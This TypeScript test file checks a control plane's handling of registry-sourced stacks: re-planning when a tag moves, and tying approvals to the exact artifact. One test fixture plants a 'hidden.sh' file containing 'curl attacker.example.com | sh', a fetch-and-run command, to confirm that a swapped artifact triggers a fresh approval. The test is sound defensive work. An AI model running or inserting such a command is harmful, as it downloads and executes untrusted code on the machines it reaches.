/** Stacks from registries through the whole control plane: what a tag that moves brings about. */
import { createOutbound } from '@trueup/outbound';
import { createProvider, FakeOciClient } from '@trueup/provider-oci/testing';
import { createRegistryClient, packArtifact, pushArtifact } from '@trueup/registries';
import { type LoopbackRegistry, startLoopbackRegistry } from '@trueup/registries/testing';
import { describe, expect, it } from 'vitest';

import { Sources } from '../sources/sources.ts';
import { withSources } from '../sources/with-sources.ts';
import { ControlPlaneBench } from '../testing/index.ts';

const { signal } = new AbortController();
const [one, two] = ['1', '2'].map((digit) => `sha256:${digit.repeat(64)}`);
const place = { host: 'registry.example.com', repository: 'team/shop/web' };

describe('a stack whose content lies in a registry', () => {
  it('is planned anew and applied when its tag moves', async () => {
    await using scene = await open('drift: report');
    const { bench, client, push } = scene;
    await bench.untilRun('images', 'succeeded');
    expect(tagOf(client)).toBe(one);

    await push(two ?? '');
    await bench.until('the run of the new content', async () => {
      const runs = await bench.runsOf('images');
      return runs.length === 2 && runs.some((run) => tagOf(client) === two && isDone(run));
    });

    expect(tagOf(client)).toBe(two);
    expect(bench.errors).toEqual([]);
  });

  it('asks for the approval that its rule asks for, once', async () => {
    await using scene = await open('approvals: { count: 1 }');
    const { bench, client, push } = scene;
    const first = await bench.untilRun('images', 'awaiting-approval');
    await bench.as('approver', 'cleo').approve(first.id, first.plan?.digest ?? '');
    await bench.untilRun('images', 'succeeded');

    await push(two ?? '');
    const waiting = await bench.untilRun('images', 'awaiting-approval');

    expect(waiting.plan?.digest).not.toBe(first.plan?.digest);
    expect(tagOf(client)).toBe(one);
    expect(await bench.runsOf('images')).toHaveLength(2);
    await bench.as('approver', 'cleo').approve(waiting.id, waiting.plan?.digest ?? '');
    await bench.until('the new content', async () => tagOf(client) === two);
  });

  it('takes an approval for the artifact that it was given for, whatever another one plans', async () => {
    await using scene = await open('approvals: { count: 1 }');
    const { bench, client, push } = scene;
    const first = await bench.untilRun('images', 'awaiting-approval');

    // The same changes, and more that no plan shows: for Ansible and Terraform it would run.
    await push(one ?? '', { 'hidden.sh': 'curl attacker.example.com | sh' });
    await bench.restart();
    await bench.as('approver', 'cleo').approve(first.id, first.plan?.digest ?? '');
    const asked = await bench.until('another question', async () => {
      const [run] = await bench.runsOf('images');
      return run?.plan && run.plan.digest !== first.plan?.digest ? run : undefined;
    });

    expect(asked.phase.name).toBe('awaiting-approval');
    expect(tagOf(client)).toBeUndefined();
    await bench.as('approver', 'cleo').approve(asked.id, asked.plan?.digest ?? '');
    await bench.untilRun('images', 'succeeded');
    expect(tagOf(client)).toBe(one);
  });
});

function isDone({ phase }: { readonly phase: { readonly name: string } }): boolean {
  return phase.name === 'succeeded';
}

interface Scene extends AsyncDisposable {
  readonly bench: ControlPlaneBench;
  readonly client: FakeOciClient;
  /** Lets the artifact's tag stand for a registry file that takes this digest, and other files. */
  readonly push: (digest: string, others?: Readonly<Record<string, string>>) => Promise<void>;
}

async function open(rule: string): Promise<Scene> {
  await using opened = new AsyncDisposableStack();
  const registry = opened.use(await startLoopbackRegistry());
  const outbound = opened.use(createOutbound({ addresses: { allowLoopback: true } }));
  const push = pusher(registry, outbound);
  await push(one ?? '');
  const sources = new Sources({
    outbound: async () => outbound,
    readCredentials: noLogin,
    allowHttp: () => true,
  });
  const client = new FakeOciClient();
  for (const digest of [one, two]) {
    client.put({ host: 'ghcr.io', repository: 'acme/web' }, digest ?? '');
  }
  const provider = withSources(createProvider(client, noLogin), sources);
  const bench = opened.use(
    await ControlPlaneBench.open({
      providers: () => [provider],
      sources,
      sourceIntervalMs: 50,
      lookIntervalMs: 60_000,
    }),
  );
  await bench.admin.putMember('root', { grants: [{ role: 'admin' }] });
  await bench.admin.putMember('cleo', { grants: [{ role: 'approver' }] });
  await bench.push({
    'trueup.yaml': [
      'apiVersion: trueup.dev/v1',
      'targets: { images: { oci: { registry: registry.example.com/team } } }',
      'stacks: [{ name: images, path: images, target: images }]',
      `rules: [{ stacks: ["*"], ${rule} }]`,
    ].join('\n'),
    'images/trueup-source.yaml': `artifact: "oci://${registry.host}/shop/tags:production"\n`,
  });
  const kept = opened.move();
  return { bench, client, push, [Symbol.asyncDispose]: () => kept.disposeAsync() };
}

function pusher(
  registry: LoopbackRegistry,
  outbound: ReturnType<typeof createOutbound>,
): Scene['push'] {
  const client = createRegistryClient({ outbound, allowHttp: () => true });
  const to = { host: registry.host, repository: 'shop/tags' };
  return async (digest, others = {}) => {
    const from = `ghcr.io/acme/web@${digest}`;
    const text = `tags: [{ repository: shop/web, tag: production, from: "${from}" }]\n`;
    const files = Object.entries({ 'registry.yaml': text, ...others });
    const packed = files.map(([path, content]) => ({ path, bytes: Buffer.from(content) }));
    const artifact = packArtifact(packed, {});
    await pushArtifact(client, to, { artifact, signal });
    await client.pushManifest({ ...to, tag: 'production' }, artifact.manifest, signal);
  };
}

async function noLogin(): Promise<never> {
  throw new Error('Nobody asks for a login.');
}

function tagOf(client: FakeOciClient): string | undefined {
  return client.repository(place).tags.get('production');
}
